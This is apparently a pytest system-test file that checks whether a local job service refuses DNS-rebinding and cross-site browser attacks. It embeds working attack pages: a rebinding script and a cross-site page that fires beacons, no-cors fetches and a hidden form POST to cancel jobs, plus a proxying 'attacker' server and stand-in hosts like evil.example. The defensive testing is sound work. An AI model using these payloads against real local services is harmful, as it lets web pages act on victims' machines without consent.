"""What pages in Chromium can do to a service on loopback: one whose name is rebound to it, and one of another site.

Neither needs the internet: the browser resolves every name to this machine.
"""

import http.client
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Event, Thread
from typing import Any

import httpx2
import pytest

from tests.support.chromium import FLAGS
from tests.support.datasets import write_dataset, write_edgeface
from tests.support.servers import free_port
from tests.system.api_process import api

pytestmark = pytest.mark.slow

RESULT_SECONDS = 120.0
FLAGS_OF_ATTACK = (*FLAGS, "--no-proxy-server", "--host-resolver-rules=MAP *.example 127.0.0.1")

REBOUND = """<script>
const ask = async (method, path) => (await fetch(path, {method})).status;
(async () => {
    await fetch("/attacker/rebind", {method: "POST"});
    const found = {read: await ask("GET", "/jobs"), changed: await ask("POST", "/jobs/JOB/cancel")};
    await fetch("/attacker/result", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

CROSS_SITE = """<iframe name="frame"></iframe>
<form method="post" target="frame" action="SERVICE/jobs/JOB/cancel"></form>
<script>
const url = "SERVICE/jobs/JOB/cancel", frame = document.querySelector("iframe");
const send = (to, body) => fetch(to, {method: "POST", mode: "no-cors", body}).catch(() => {});
(async () => {
    navigator.sendBeacon(url, "x");
    await send(url);
    await send("SERVICE/jobs", '{"dataset": "faces"}');
    const shown = new Promise((resolve) => { frame.onload = resolve; });
    document.forms[0].submit();
    await shown;
    let read = "refused";
    try { read = await (await fetch("SERVICE/jobs")).text(); } catch {}
    await fetch("/attacker/result", {method: "POST", body: JSON.stringify({read})});
})();
</script>"""


class Attacker(ThreadingHTTPServer):
    """Serves one page. After the page asked for /attacker/rebind its name leads to the service, as in DNS rebinding."""

    def __init__(self, page: str, service: int) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page, self.service = page, service
        self.is_rebound = False
        self.result: dict[str, Any] = {}
        self.ended = Event()


class _Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        if self.server.is_rebound:
            self._pass_on()
        else:
            self._answer(200, self.server.page.encode())

    def do_POST(self) -> None:
        if not self.path.startswith("/attacker/"):
            self._pass_on()
            return
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self._answer(200, b"")
        if self.path == "/attacker/rebind":
            self.server.is_rebound = True
        else:
            self.server.result = json.loads(body)
            self.server.ended.set()

    def log_message(self, *_: object) -> None:
        pass

    def _pass_on(self) -> None:
        """Send the request to the service with the headers that the browser sent."""
        service = http.client.HTTPConnection("127.0.0.1", self.server.service)
        service.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            service.putheader(name, value)
        service.endheaders()
        answer = service.getresponse()
        self._answer(answer.status, answer.read())
        service.close()

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def chromium() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        (pytest.fail if os.environ.get("CI") else pytest.skip)("chromium is not installed: apt-get install chromium")
    return found


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """Port of a service without keys."""
    var_dir, port = tmp_path_factory.mktemp("browser") / "var", free_port()
    write_dataset(var_dir / "datasets" / "faces")
    write_edgeface(var_dir / "weights" / "edgeface_xxs.pt")
    with api(var_dir, port):
        yield port


@pytest.fixture
def job(service: int) -> str:
    answer = httpx2.post(f"http://127.0.0.1:{service}/jobs", json={"dataset": "faces"}, timeout=60)
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def status_of(service: int, job: str) -> str:
    return str(httpx2.get(f"http://127.0.0.1:{service}/jobs/{job}", timeout=60).json()["status"])


@contextmanager
def shown(chromium: str, url: str, profile: Path) -> Iterator[None]:
    with subprocess.Popen(
        [chromium, *FLAGS_OF_ATTACK, f"--user-data-dir={profile}", url], stderr=subprocess.DEVNULL
    ) as browser:
        try:
            yield
        finally:
            browser.kill()


def visit(chromium: str, profile: Path, host: str, page: str, service: int) -> dict[str, Any]:
    """Open the page as `host`, and return what it found."""
    attacker = Attacker(page, service)
    thread = Thread(target=attacker.serve_forever)
    thread.start()
    try:
        with shown(chromium, f"http://{host}:{attacker.server_port}/", profile):
            assert attacker.ended.wait(RESULT_SECONDS), "the page did not come to its end"
    finally:
        attacker.shutdown()
        thread.join()
        attacker.server_close()
    return attacker.result


@pytest.mark.parametrize(
    ("host", "answered", "then"), [("evil.example", 421, "queued"), ("127.0.0.1", 200, "cancelled")]
)
def test_a_page_whose_name_is_rebound_to_the_service_is_refused(
    chromium: str, tmp_path: Path, service: int, job: str, host: str, answered: int, then: str
) -> None:
    """The second case shows that nothing else stops the page: by a name of the service, the same page gets through."""
    found = visit(chromium, tmp_path, host, REBOUND.replace("JOB", job), service)
    assert found == {"read": answered, "changed": answered}
    assert status_of(service, job) == then


def test_forms_and_requests_of_another_site_are_refused(chromium: str, tmp_path: Path, service: int, job: str) -> None:
    page = CROSS_SITE.replace("JOB", job).replace("SERVICE", f"http://127.0.0.1:{service}")
    before = httpx2.get(f"http://127.0.0.1:{service}/jobs", timeout=60).json()["jobs"]
    assert visit(chromium, tmp_path, "other.example", page, service) == {"read": "refused"}
    assert status_of(service, job) == "queued"
    after = httpx2.get(f"http://127.0.0.1:{service}/jobs", timeout=60).json()["jobs"]
    assert [each["id"] for each in after] == [each["id"] for each in before]
    audit = httpx2.get(f"http://127.0.0.1:{service}/audit", timeout=60).json()["entries"]
    refused = [each["details"]["times"] for each in audit if each["details"].get("code") == "cross_site_refused"]
    assert sum(refused) >= 4  # they came to the service, which refused them
